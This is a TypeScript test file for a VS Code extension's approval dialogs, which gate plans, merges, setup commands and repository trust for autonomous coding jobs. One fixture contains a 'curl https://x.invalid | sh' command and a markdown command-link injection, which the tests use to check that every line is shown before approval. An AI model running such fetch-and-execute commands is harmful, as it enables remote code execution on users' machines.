/** The dialogs before an answer goes out, on a stand-in for the editor: nothing that was dismissed may count as an answer. */
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { subjectOf } from '../../../../src/core/approval/about.ts';
import { aboutPlan } from '../../../../src/core/job/plan/planSetup.ts';
import { planId } from '../../../../src/core/state/planId.ts';
import type { ApprovalRow } from '../../../../src/shared/approval.ts';
import type { HostContext } from '../../../../src/vscode/window/context.ts';
import { approvalRow, jobOptions, jobRow, planOf, stateOf } from '../../../support/state/builders.ts';

interface Item {
  readonly label: string;
}

const person = vi.hoisted(() => ({
  /** What is picked of a list, by label; undefined: dismissed. */
  picks: [] as (readonly string[] | undefined)[],
  /** What is typed; undefined: dismissed. */
  types: [] as (string | undefined)[],
  prompts: [] as string[],
  /** Lists that were shown, by label. */
  offered: [] as (readonly string[])[],
  told: [] as string[],
  /** Dialogs that were shown, and the buttons that are pressed in them; then they are dismissed. */
  dialogs: [] as object[],
  presses: [] as string[],
  /** Happens while a list is shown. */
  whilePicking: null as (() => void) | null,
  /** Documents that were shown. */
  opened: [] as unknown[],
  /** Documents with unsaved changes. */
  unsaved: [] as string[],
  /** The document in front. */
  inFront: null as string | null,
  ran: [] as unknown[],
}));

vi.mock('vscode', () => ({
  l10n: { t: (text: string, ...values: unknown[]) => text.replaceAll(/\{(\d)\}/g, (_, at) => String(values[at])) },
  Uri: { from: ({ scheme, path }: { scheme: string; path: string }) => `${scheme}:${path}` },
  workspace: {
    openTextDocument: async (uri: unknown) => uri,
    get textDocuments() {
      return person.unsaved.map((uri) => ({ isDirty: true, uri }));
    },
  },
  commands: { executeCommand: async (...command: unknown[]) => void person.ran.push(command) },
  window: {
    get activeTextEditor() {
      return person.inFront === null ? undefined : { document: { uri: person.inFront } };
    },
    showQuickPick: async (items: readonly Item[], options: { canPickMany?: boolean }) => {
      person.offered.push(items.map(({ label }) => label));
      person.whilePicking?.();
      const labels = person.picks.shift();
      if (labels === undefined) return undefined;
      const picked = items.filter((item) => labels.includes(item.label));
      return options.canPickMany === true ? picked : picked[0];
    },
    showTextDocument: async (document: unknown) => void person.opened.push(document),
    showInputBox: async ({ prompt }: { prompt?: string }) => {
      person.prompts.push(prompt ?? '');
      return person.types.shift();
    },
    showInformationMessage: async (text: string) => void person.told.push(text),
    showWarningMessage: async (text: string, options: unknown, ...buttons: string[]) => {
      person.told.push(text);
      if (typeof options !== 'object' || options === null) return undefined;
      person.dialogs.push(options);
      return buttons.find((button) => button === person.presses.shift());
    },
  },
}));

const { approve, reject } = await import('../../../../src/vscode/approval/approve.ts');
const { remarksOf } = await import('../../../../src/vscode/approval/review/remarks.ts');

function contextOf(row: Partial<ApprovalRow>): { context: HostContext; requests: unknown[] } {
  const jobs = [jobRow({ options: jobOptions({ mergeMode: 'branch' }) })];
  const state = stateOf({ jobs, approvals: [approvalRow({ id: 1, executables: [], choices: [], ...row })] });
  const requests: unknown[] = [];
  const engine = {
    state,
    open: async () => null,
    request: async (_: string, input: unknown) => void requests.push(input),
  };
  return { context: { engine } as unknown as HostContext, requests };
}

/** The question as a person saw it. */
function asked({ engine }: HostContext, id = 1): ApprovalRow {
  return engine.state.approvals.get(id) ?? approvalRow({ id });
}

/** One remark in the review; gives the questions whose remarks were forgotten. */
function remarked(context: HostContext): number[] {
  const cleared: number[] = [];
  remarksOf(context).attach({
    of: () => [{ path: 'a.ts', line: 2, text: 'off by one' }],
    clear: ({ id }) => void cleared.push(id),
  });
  return cleared;
}

beforeEach(() => {
  person.picks = [];
  person.types = [];
  person.prompts = [];
  person.offered = [];
  person.told = [];
  person.dialogs = [];
  person.whilePicking = null;
  person.opened = [];
  person.presses = [];
  person.unsaved = [];
  person.inFront = null;
  person.ran = [];
});

describe('Approve', () => {
  it('answers a question without choices at once', async () => {
    const { context, requests } = contextOf({ kind: 'plan' });
    await approve(context, asked(context));
    expect(requests).toMatchObject([
      { approvalId: 1, decision: 'approved', choice: null, feedback: null, by: 'steward' },
    ]);
  });

  it('accepts a plan as it was edited, saved or not', async () => {
    const { context, requests } = contextOf({ kind: 'plan' });
    person.unsaved = ['autonomous-plan:/job-1/plan.yaml'];
    await approve(context, asked(context));
    expect(requests).toEqual([]);
    expect(person.ran).toEqual([['autonomous.acceptPlan', 'job-1']]);
  });

  it('of a plan that is in front gives way to the board', async () => {
    const { context } = contextOf({ kind: 'plan' });
    person.inFront = 'autonomous-plan:/job-1/plan.yaml';
    await approve(context, asked(context));
    expect(person.ran).toEqual([['autonomous.openBoard']]);
  });

  it('of a plan shows every phase before it is confirmed', async () => {
    const { context, requests } = contextOf({ kind: 'plan', subject: 'plan:2', detail: '1. Core: It works' });
    const plan = planOf({ Core: ['parser', 'store'], Commands: ['undo'], Manual: ['guide'] });
    const row = { id: planId('job-1', 2), job_id: 'job-1', version: 2, plan, by: 'planner', at: '' } as const;
    context.engine.state.plans.set(row.id, row);
    await approve(context, asked(context), { confirm: true });
    expect(person.dialogs).toEqual([
      { modal: true, detail: '1. Core (features: 2)\n2. Commands (features: 1)\n3. Manual (features: 1)' },
    ]);
    expect(requests).toEqual([]);
    person.presses = ['Approve'];
    await approve(context, asked(context), { confirm: true });
    expect(requests).toMatchObject([{ decision: 'approved' }]);
  });

  it('of a phase shows the evidence and the features before it is confirmed, and only the totals of the files', async () => {
    const facts = 'Verify commands:\n- npm test: passed\n\nFeatures:\n- failed: Undo (no)';
    const detail = `All criteria hold.\n\n${facts}\n\nChanges:\n a.js | 1 +\n 1 file changed, 1 insertion(+)`;
    const { context } = contextOf({ kind: 'phase', subject: 'phase:9', phase_id: 1, detail });
    await approve(context, asked(context), { confirm: true });
    expect(person.dialogs).toEqual([{ modal: true, detail: detail.replace(' a.js | 1 +\n', '') }]);
  });

  it('of a plan that asks and installs shows the commands, and takes no answer without words', async () => {
    const plan = { ...planOf({ Core: ['parser'] }), questions: ['Tabs?', 'Which port?'], setup: ['npm install'] };
    const { context, requests } = contextOf({ kind: 'plan', subject: subjectOf(aboutPlan(2, plan)) });
    const row = { id: planId('job-1', 2), job_id: 'job-1', version: 2, plan, by: 'planner', at: '' } as const;
    context.engine.state.plans.set(row.id, row);
    person.presses = ['Approve', 'Approve'];
    person.types = ['', '1: yes. 2: 80.'];
    await approve(context, asked(context), { confirm: true });
    expect(requests).toEqual([]);
    await approve(context, asked(context), { confirm: true });
    expect(requests).toMatchObject([{ decision: 'approved', feedback: '1: yes. 2: 80.' }]);
    expect(person.dialogs[0]).toMatchObject({ detail: expect.stringMatching(/run:\nnpm install$/) });
    expect(person.prompts).toContain('1. Tabs? 2. Which port?');
  });

  it('leaves what else is in front where it is', async () => {
    const { context } = contextOf({ kind: 'plan' });
    person.inFront = 'file:/src/mine.ts';
    await approve(context, asked(context));
    expect(person.ran).toEqual([]);
  });

  it('offers the choices of a question, and takes none when it is dismissed', async () => {
    const { context, requests } = contextOf({ kind: 'dirty_tree', choices: ['head', 'snapshot'] });
    await approve(context, asked(context));
    expect(requests).toEqual([]);
    person.picks = [['Start from a snapshot of the tree as it is']];
    await approve(context, asked(context));
    expect(requests).toMatchObject([{ choice: 'snapshot' }]);
  });

  it('sends a stuck worker an answer, never an empty one', async () => {
    const { context, requests } = contextOf({ kind: 'stuck', subject: 'stuck:1' });
    person.types = [undefined, '  ', 'Tabs.'];
    await approve(context, asked(context));
    await approve(context, asked(context));
    expect(requests).toEqual([]);
    await approve(context, asked(context));
    expect(requests).toMatchObject([{ decision: 'approved', feedback: 'Tabs.' }]);
  });

  it('takes a bare yes to a question of the engine that needs no words', async () => {
    const { context, requests } = contextOf({ kind: 'stuck', subject: 'same_error:1' });
    person.types = [undefined, ' '];
    await approve(context, asked(context));
    expect(requests).toEqual([]);
    await approve(context, asked(context));
    expect(requests).toMatchObject([{ decision: 'approved', feedback: null }]);
  });

  it('goes out only when every file that would run was ticked', async () => {
    const executables = ['.husky/pre-commit', 'package.json'];
    const { context, requests } = contextOf({ kind: 'merge', choices: ['merge', 'branch', 'patch'], executables });
    for (const ticked of [undefined, [], ['package.json']]) {
      person.picks = [['Merge'], ticked];
      await approve(context, asked(context));
    }
    expect(requests).toEqual([]);
    expect(person.told.at(-1)).toBe('Not approved. May run on your machine, and was not ticked: .husky/pre-commit');
    person.picks = [['Merge'], executables];
    await approve(context, asked(context));
    expect(requests).toMatchObject([{ choice: 'merge' }]);
  });

  it('ticks are asked for even when a card gave the choice', async () => {
    const { context, requests } = contextOf({
      kind: 'merge',
      choices: ['merge', 'branch'],
      executables: ['package.json'],
    });
    await approve(context, asked(context), { choice: 'merge' });
    expect(requests).toEqual([]);
  });

  it('asks how to merge when a page only proposes it, and offers that first', async () => {
    const { context, requests } = contextOf({ kind: 'merge', choices: ['merge', 'branch', 'patch'] });
    await approve(context, asked(context), { choice: null, first: 'patch' });
    expect(requests).toEqual([]);
    expect(person.offered).toEqual([['Write a patch file', 'Leave it on a separate branch', 'Merge']]);
    person.picks = [['Write a patch file']];
    await approve(context, asked(context), { choice: null, first: 'patch' });
    expect(requests).toMatchObject([{ choice: 'patch' }]);
  });

  it('says to run commands only with every line of them shown, and only when that is pressed', async () => {
    const detail = 'npm ci\ncurl https://x.invalid | sh # [read](command:me)';
    const { context, requests } = contextOf({ kind: 'command', subject: 'command:npm ci', detail });
    await approve(context, asked(context));
    expect(requests).toEqual([]);
    person.presses = ['Run'];
    await approve(context, asked(context), { choice: null });
    expect(requests).toMatchObject([{ decision: 'approved' }]);
    const shown = { modal: true, detail: 'npm ci\ncurl https://x.invalid | sh # [read]\u200b(command:me)' };
    expect(person.dialogs).toEqual([shown, shown]);
  });

  it('shows as a document what a dialog has no room for', async () => {
    const detail = Array.from({ length: 60 }, (_, at) => `echo ${at}`).join('\n');
    const { context, requests } = contextOf({ kind: 'setup', subject: 'setup', detail, question: 'Run these?' });
    await approve(context, asked(context));
    expect(person.opened).toEqual(['autonomous-question:/question-1.sh']);
    expect(person.told).toEqual(['Run these? The whole text is in the editor in front of you.']);
    expect(requests).toEqual([]);
  });

  it('asks before it gives up the comments of a review, which go with a rejection only', async () => {
    const { context, requests } = contextOf({ kind: 'plan' });
    const cleared = remarked(context);
    await approve(context, asked(context));
    expect([requests, cleared]).toEqual([[], []]);
    person.presses = ['Approve Without Comments'];
    await approve(context, asked(context));
    expect(requests).toHaveLength(1);
    expect(cleared).toEqual([1]);
  });

  it('is for the question that was shown, not for the one of another folder with its number', async () => {
    const { context, requests } = contextOf({ kind: 'plan' });
    for (const other of [{ job_id: 'job-2' }, { commit: 'c0ffee' }, { requested_at: '2020-01-01T00:00:00.000Z' }]) {
      await approve(context, { ...asked(context), ...other });
      await reject(context, { ...asked(context), ...other });
    }
    expect(requests).toEqual([]);
    expect(person.told).toHaveLength(6);
  });

  it('is not sent when another folder was chosen while it was asked', async () => {
    const { context, requests } = contextOf({ kind: 'dirty_tree', choices: ['head', 'snapshot'] });
    person.whilePicking = () => {
      const approvals = [approvalRow({ id: 1, job_id: 'job-2', choices: ['head'] })];
      Object.assign(context.engine, { state: stateOf({ jobs: [jobRow({ id: 'job-2' })], approvals }) });
    };
    person.picks = [['Start from the last commit']];
    await approve(context, asked(context));
    expect(requests).toEqual([]);
    expect(person.told).toEqual(['This question is settled: what it asked about changed.']);
  });

  it('says so when somebody answered before', async () => {
    const { context, requests } = contextOf({ status: 'rejected' });
    await approve(context, asked(context));
    await reject(context, asked(context));
    await approve(context, asked(context, 99));
    expect(requests).toEqual([]);
    expect(person.told).toHaveLength(3);
  });
});

describe('Reject', () => {
  it.each([
    ['conflict', 'This pauses the job; its work is kept. Why?'],
    ['provider', 'This ends the job. Why?'],
    ['stuck', 'This marks the feature as failed; the job continues with the others. Why?'],
    ['setup', 'This runs no setup commands; the job continues. Why?'],
    ['plan', 'What should be different?'],
  ] as const)('of a question of kind %s says first: %s', async (kind, prompt) => {
    const { context } = contextOf({ kind, feature_id: kind === 'stuck' ? 1 : null });
    await reject(context, asked(context));
    expect(person.prompts).toEqual([prompt]);
  });

  it('needs a reason', async () => {
    const { context, requests } = contextOf({});
    person.types = ['', undefined];
    await reject(context, asked(context));
    await reject(context, asked(context));
    expect(requests).toEqual([]);
  });

  it('takes the remarks of the review for one, and forgets them afterwards', async () => {
    const { context, requests } = contextOf({});
    const cleared = remarked(context);
    person.types = [''];
    await reject(context, asked(context));
    expect(requests).toMatchObject([{ decision: 'rejected', feedback: '- a.ts:2: off by one' }]);
    expect(cleared).toEqual([1]);
  });
});

describe('a question about a project', () => {
  const aboutProject = { job_id: null, project_id: 'api', commit: null } as const;

  it('trusts no repository before a person saw what will be read', async () => {
    const { context, requests } = contextOf({
      ...aboutProject,
      kind: 'workdir',
      question: 'Trust it?',
      detail: 'Reads /x',
    });
    await approve(context, asked(context));
    expect(requests).toEqual([]);
    person.presses = ['Trust'];
    await approve(context, asked(context));
    expect(person.dialogs).toEqual(Array(2).fill({ modal: true, detail: 'Reads /x' }));
    expect(requests).toEqual([expect.objectContaining({ approvalId: 1, decision: 'approved' })]);
  });

  it('asks who should know of a message, and leaves it where that was dismissed', async () => {
    const { context, requests } = contextOf({ ...aboutProject, kind: 'relay', choices: ['web', 'nobody'] });
    await approve(context, asked(context));
    expect(requests).toEqual([]);
    person.picks = [['Nobody']];
    await approve(context, asked(context));
    expect(person.offered).toEqual(Array(2).fill(['web', 'Nobody']));
    expect(requests).toEqual([expect.objectContaining({ choice: 'nobody' })]);
  });

  it.each(['workdir', 'definition', 'relay', 'project'] as const)(
    'of kind %s is refused without a reason',
    async (kind) => {
      const { context, requests } = contextOf({ ...aboutProject, kind });
      await reject(context, asked(context));
      expect(requests).toEqual([expect.objectContaining({ decision: 'rejected', feedback: 'refused' })]);
    },
  );
});
